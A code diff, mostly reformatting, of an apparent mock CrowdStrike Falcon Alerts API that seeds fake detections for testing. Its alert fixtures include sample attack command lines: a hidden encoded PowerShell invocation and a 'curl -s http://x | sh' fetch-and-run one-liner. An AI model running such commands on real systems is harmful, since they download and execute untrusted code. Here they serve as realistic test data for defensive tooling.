@@ -3,6 +3,7 @@
 Shapes follow FalconPy's endpoint table (src/falconpy/_endpoint/_alerts.py) and its docs: the 2023 spec has none of
 the v2/v3 Alerts paths. Composite ids look like real ones: '<cid>:ind:<device_id>:<number>-<pattern id>-<seq>'.
 """
+
 import copy
 import random
 import time
@@ -20,10 +21,39 @@ PATTERNS = (
     ('epp', 'ldt', 10146, 'MaliciousDocument', 'Initial Access', 'TA0001', 'Spearphishing Attachment', 'T1566.001', 50),
     ('epp', 'ldt', 5701, 'AdwarePUP', 'Machine Learning', 'CSTA0004', 'Adware/PUP', 'CST0002', 30),
     ('epp', 'ldt', 41002, 'PolicyCustomIOA', 'Custom Intelligence', 'CSTA0005', 'Indicator of Attack', 'CST0004', 10),
-    ('idp', 'idp-user-endpoint-app-access', 51113, 'UnusualLogonLocation', 'Initial Access', 'TA0001', 'Valid Accounts', 'T1078', 40),
-    ('idp', 'idp-session-source-endpoint-target-info', 51120, 'KerberoastingAttempt', 'Credential Access', 'TA0006',
-     'Kerberoasting', 'T1558.003', 80),
-    ('overwatch', 'ofp', 20001, 'OverWatchHandsOnKeyboard', 'Discovery', 'TA0007', 'System Network Discovery', 'T1016', 80),
+    (
+        'idp',
+        'idp-user-endpoint-app-access',
+        51113,
+        'UnusualLogonLocation',
+        'Initial Access',
+        'TA0001',
+        'Valid Accounts',
+        'T1078',
+        40,
+    ),
+    (
+        'idp',
+        'idp-session-source-endpoint-target-info',
+        51120,
+        'KerberoastingAttempt',
+        'Credential Access',
+        'TA0006',
+        'Kerberoasting',
+        'T1558.003',
+        80,
+    ),
+    (
+        'overwatch',
+        'ofp',
+        20001,
+        'OverWatchHandsOnKeyboard',
+        'Discovery',
+        'TA0007',
+        'System Network Discovery',
+        'T1016',
+        80,
+    ),
     ('xdr', 'xdr', 60010, 'XdrLateralMovement', 'Lateral Movement', 'TA0008', 'Remote Services', 'T1021', 60),
 )
 # Users alerts can be assigned to: (uuid, user id, name). assign_to_* with anything else is refused.
@@ -34,13 +64,52 @@ USERS = (
     ('0f1e2d3c-4b5a-4968-8776-5a4b3c2d1e0f', 'priya.raman@example.com', 'Priya Raman'),
 )
 SEED_TAGS = ('triage', 'phishing-campaign', 'vip-host', 'false-positive-candidate')
-DEVICE_KEYS = ('device_id', 'cid', 'hostname', 'platform_name', 'platform_id', 'os_version', 'product_type_desc',
-               'agent_version', 'local_ip', 'external_ip', 'mac_address', 'machine_domain', 'site_name', 'groups', 'tags',
-               'status', 'system_manufacturer', 'system_product_name')
+DEVICE_KEYS = (
+    'device_id',
+    'cid',
+    'hostname',
+    'platform_name',
+    'platform_id',
+    'os_version',
+    'product_type_desc',
+    'agent_version',
+    'local_ip',
+    'external_ip',
+    'mac_address',
+    'machine_domain',
+    'site_name',
+    'groups',
+    'tags',
+    'status',
+    'system_manufacturer',
+    'system_product_name',
+)
 # Keys add_alert() accepts besides cid/device_id/severity (any other is refused with their list).
-INJECTABLE = ('product', 'type', 'pattern_id', 'name', 'display_name', 'description', 'tactic', 'tactic_id', 'technique',
-              'technique_id', 'status', 'tags', 'assigned_to_uuid', 'assigned_to_uid', 'assigned_to_name', 'show_in_ui',
-              'filename', 'filepath', 'cmdline', 'user_name', 'confidence', 'created_timestamp', 'timestamp')
+INJECTABLE = (
+    'product',
+    'type',
+    'pattern_id',
+    'name',
+    'display_name',
+    'description',
+    'tactic',
+    'tactic_id',
+    'technique',
+    'technique_id',
+    'status',
+    'tags',
+    'assigned_to_uuid',
+    'assigned_to_uid',
+    'assigned_to_name',
+    'show_in_ui',
+    'filename',
+    'filepath',
+    'cmdline',
+    'user_name',
+    'confidence',
+    'created_timestamp',
+    'timestamp',
+)
 
 
 def severity_name(severity):
@@ -96,10 +165,19 @@ def _device_block(host):
 def _pattern_fields(pattern):
     """Record fields of one PATTERNS row."""
     product, kind, pattern_id, name, tactic, tactic_id, technique, technique_id, _severity = pattern
-    return {'product': product, 'type': kind, 'pattern_id': pattern_id, 'name': name,
-            'display_name': '%s on host' % name, 'description': '%s detected (%s, %s)' % (name, tactic, technique),
-            'tactic': tactic, 'tactic_id': tactic_id, 'technique': technique, 'technique_id': technique_id,
-            'scenario': technique.lower().replace(' ', '_').replace('/', '_')}
+    return {
+        'product': product,
+        'type': kind,
+        'pattern_id': pattern_id,
+        'name': name,
+        'display_name': '%s on host' % name,
+        'description': '%s detected (%s, %s)' % (name, tactic, technique),
+        'tactic': tactic,
+        'tactic_id': tactic_id,
+        'technique': technique,
+        'technique_id': technique_id,
+        'scenario': technique.lower().replace(' ', '_').replace('/', '_'),
+    }
 
 
 def make_alert(cid, host, number, seq, pattern, severity, created):
@@ -107,15 +185,34 @@ def make_alert(cid, host, number, seq, pattern, severity, created):
     aid = host.device_id
     local_id = 'ind:%s:%d-%d-%d' % (aid, number, pattern[2], seq)
     record = {
-        'composite_id': '%s:%s' % (cid, local_id), 'id': local_id, 'aggregate_id': 'aggind:%s:%d' % (aid, number),
-        'cid': cid, 'agent_id': aid, 'platform': host.platform, 'severity': severity, 'severity_name': severity_name(severity),
-        'confidence': 80 + number % 21, 'status': 'new', 'tags': [], 'comments': [], 'show_in_ui': True, 'seen': False,
-        'email_sent': False, 'assigned_to_uuid': '', 'assigned_to_uid': '', 'assigned_to_name': '',
-        'source_products': ['Falcon Insight'], 'source_vendors': ['CrowdStrike'],
-        'filename': 'powershell.exe' if host.platform == 'Windows' else 'bash', 'user_name': 'CORP\\svc-%04d' % (number % 9999),
+        'composite_id': '%s:%s' % (cid, local_id),
+        'id': local_id,
+        'aggregate_id': 'aggind:%s:%d' % (aid, number),
+        'cid': cid,
+        'agent_id': aid,
+        'platform': host.platform,
+        'severity': severity,
+        'severity_name': severity_name(severity),
+        'confidence': 80 + number % 21,
+        'status': 'new',
+        'tags': [],
+        'comments': [],
+        'show_in_ui': True,
+        'seen': False,
+        'email_sent': False,
+        'assigned_to_uuid': '',
+        'assigned_to_uid': '',
+        'assigned_to_name': '',
+        'source_products': ['Falcon Insight'],
+        'source_vendors': ['CrowdStrike'],
+        'filename': 'powershell.exe' if host.platform == 'Windows' else 'bash',
+        'user_name': 'CORP\\svc-%04d' % (number % 9999),
         'filepath': '\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
-                    if host.platform == 'Windows' else '/usr/bin/bash',
-        'cmdline': 'powershell.exe -nop -w hidden -enc SQBFAFgA' if host.platform == 'Windows' else 'bash -c "curl -s http://x | sh"',
+        if host.platform == 'Windows'
+        else '/usr/bin/bash',
+        'cmdline': 'powershell.exe -nop -w hidden -enc SQBFAFgA'
+        if host.platform == 'Windows'
+        else 'bash -c "curl -s http://x | sh"',
         'falcon_host_link': 'https://falcon.crowdstrike.com/activity-v2/detections/%s' % local_id.replace(':', '%3A'),
         'device': _device_block(host),
     }
@@ -131,11 +228,13 @@ def seed_alerts(seed, cid, hosts, now):
         for _draw in range(rng.choice((0, 1, 1, 2, 2, 2, 3, 3, 4))):
             pattern = rng.choice(PATTERNS)
             created = now - rng.randrange(60, 30 * 86400)
-            alert = make_alert(cid, host, rng.randrange(10 ** 11, 10 ** 12), len(alerts) + 1, pattern, pattern[8], created)
+            alert = make_alert(cid, host, rng.randrange(10**11, 10**12), len(alerts) + 1, pattern, pattern[8], created)
             roll = rng.random()
             if roll < 0.25:
                 user = rng.choice(USERS)
-                alert.record.update(status='in_progress', assigned_to_uuid=user[0], assigned_to_uid=user[1], assigned_to_name=user[2])
+                alert.record.update(
+                    status='in_progress', assigned_to_uuid=user[0], assigned_to_uid=user[1], assigned_to_name=user[2]
+                )
             elif roll < 0.45:
                 alert.record['status'] = 'closed'
             elif roll < 0.5:
@@ -157,29 +256,100 @@ def _field(kind, key):
 def _build_fields():
     """FQL fields of alerts (name -> Field) and the sortable subset."""
     # Keyword fields match whole values; analysed text fields take the recorded prefix match (fql.py, NOTES 9.2).
-    fields = {key: _field('str', key) for key in (
-        'composite_id', 'id', 'aggregate_id', 'cid', 'agent_id', 'product', 'type', 'platform', 'severity_name', 'status',
-        'tactic_id', 'technique_id', 'assigned_to_uuid', 'assigned_to_uid')}
-    fields.update({key: _field('text', key) for key in (
-        'name', 'display_name', 'description', 'tactic', 'technique', 'scenario', 'filename', 'filepath', 'cmdline',
-        'user_name', 'assigned_to_name')})
-    fields.update({
-        'severity': _field('num', 'severity'), 'confidence': _field('num', 'confidence'), 'pattern_id': _field('num', 'pattern_id'),
-        'show_in_ui': _field('bool', 'show_in_ui'), 'seen': _field('bool', 'seen'), 'tags': _field('list', 'tags'),
-        'created_timestamp': Field('time', lambda a: a.created), 'updated_timestamp': Field('time', lambda a: a.updated),
-        'timestamp': Field('time', lambda a: a.timestamp),
-    })
-    for key in ('device_id', 'platform_name', 'product_type_desc', 'local_ip', 'external_ip', 'machine_domain', 'site_name',
-                'agent_version'):
+    fields = {
+        key: _field('str', key)
+        for key in (
+            'composite_id',
+            'id',
+            'aggregate_id',
+            'cid',
+            'agent_id',
+            'product',
+            'type',
+            'platform',
+            'severity_name',
+            'status',
+            'tactic_id',
+            'technique_id',
+            'assigned_to_uuid',
+            'assigned_to_uid',
+        )
+    }
+    fields.update(
+        {
+            key: _field('text', key)
+            for key in (
+                'name',
+                'display_name',
+                'description',
+                'tactic',
+                'technique',
+                'scenario',
+                'filename',
+                'filepath',
+                'cmdline',
+                'user_name',
+                'assigned_to_name',
+            )
+        }
+    )
+    fields.update(
+        {
+            'severity': _field('num', 'severity'),
+            'confidence': _field('num', 'confidence'),
+            'pattern_id': _field('num', 'pattern_id'),
+            'show_in_ui': _field('bool', 'show_in_ui'),
+            'seen': _field('bool', 'seen'),
+            'tags': _field('list', 'tags'),
+            'created_timestamp': Field('time', lambda a: a.created),
+            'updated_timestamp': Field('time', lambda a: a.updated),
+            'timestamp': Field('time', lambda a: a.timestamp),
+        }
+    )
+    for key in (
+        'device_id',
+        'platform_name',
+        'product_type_desc',
+        'local_ip',
+        'external_ip',
+        'machine_domain',
+        'site_name',
+        'agent_version',
+    ):
         fields['device.' + key] = Field('str', lambda a, k=key: a.record['device'].get(k))
     for key in ('hostname', 'os_version'):
         fields['device.' + key] = Field('text', lambda a, k=key: a.record['device'].get(k))
     fields['device.tags'] = Field('list', lambda a: a.record['device'].get('tags', []))
     fields['device.groups'] = Field('list', lambda a: a.record['device'].get('groups', []))
-    sortable = frozenset([
-        'timestamp', 'created_timestamp', 'updated_timestamp', 'status', 'aggregate_id', 'assigned_to_name', 'assigned_to_uid',
-        'assigned_to_uuid', 'tactic_id', 'tactic', 'technique', 'technique_id', 'pattern_id', 'product', 'severity',
-        'composite_id', 'id', 'cid', 'show_in_ui', 'type', 'platform', 'name', 'confidence', 'device.hostname', 'device.device_id'])
+    sortable = frozenset(
+        [
+            'timestamp',
+            'created_timestamp',
+            'updated_timestamp',
+            'status',
+            'aggregate_id',
+            'assigned_to_name',
+            'assigned_to_uid',
+            'assigned_to_uuid',
+            'tactic_id',
+            'tactic',
+            'technique',
+            'technique_id',
+            'pattern_id',
+            'product',
+            'severity',
+            'composite_id',
+            'id',
+            'cid',
+            'show_in_ui',
+            'type',
+            'platform',
+            'name',
+            'confidence',
+            'device.hostname',
+            'device.device_id',
+        ]
+    )
     return fields, sortable
 
 
@@ -214,7 +384,10 @@ class AlertStore:
         """Inject a new alert (status new) on a host (default: the first host); return it. ValueError on bad input."""
         unknown = sorted(set(fields) - set(INJECTABLE))
         if unknown:
-            raise ValueError('unknown alert field(s) %s; allowed: cid, device_id, severity, %s' % (', '.join(unknown), ', '.join(INJECTABLE)))
+            raise ValueError(
+                'unknown alert field(s) %s; allowed: cid, device_id, severity, %s'
+                % (', '.join(unknown), ', '.join(INJECTABLE))
+            )
         if isinstance(severity, bool) or not isinstance(severity, int) or not 0 <= severity <= 100:
             raise ValueError('severity must be an integer from 0 to 100, got %r' % (severity,))
         hosts = self.tenant.hosts
@@ -231,7 +404,9 @@ class AlertStore:
         now = time.time() if now is None else now
         self.injected += 1
         pattern = next((p for p in PATTERNS if p[8] == severity), PATTERNS[0])
-        alert = make_alert(self.tenant.cid, host, 900000000000 + self.injected, len(self.alerts) + 1, pattern, severity, now)
+        alert = make_alert(
+            self.tenant.cid, host, 900000000000 + self.injected, len(self.alerts) + 1, pattern, severity, now
+        )
         _apply_injected(alert, fields)
         self.alerts.append(alert)
         self.by_id[alert.composite_id] = alert
@@ -241,17 +416,24 @@ class AlertStore:
 def _apply_injected(alert, fields):
     """Overlay the add_alert() fields on a fresh alert (times accept epoch seconds or ISO 8601)."""
     from .fql import parse_time  # pylint: disable=import-outside-toplevel
+
     for key in ('created_timestamp', 'timestamp'):
         if key in fields:
             value = fields.pop(key)
-            epoch = value if isinstance(value, (int, float)) and not isinstance(value, bool) else parse_time(str(value), time.time())
+            epoch = (
+                value
+                if isinstance(value, (int, float)) and not isinstance(value, bool)
+                else parse_time(str(value), time.time())
+            )
             if epoch is None:
                 raise ValueError('%s must be epoch seconds or ISO 8601, got %r' % (key, value))
             if key == 'created_timestamp':
                 alert.created = alert.updated = epoch
             else:
                 alert.timestamp = epoch
-    if 'tags' in fields and (not isinstance(fields['tags'], list) or not all(isinstance(t, str) for t in fields['tags'])):
+    if 'tags' in fields and (
+        not isinstance(fields['tags'], list) or not all(isinstance(t, str) for t in fields['tags'])
+    ):
         raise ValueError('tags must be a list of strings, got %r' % (fields['tags'],))
     alert.record.update(copy.deepcopy(fields))
 
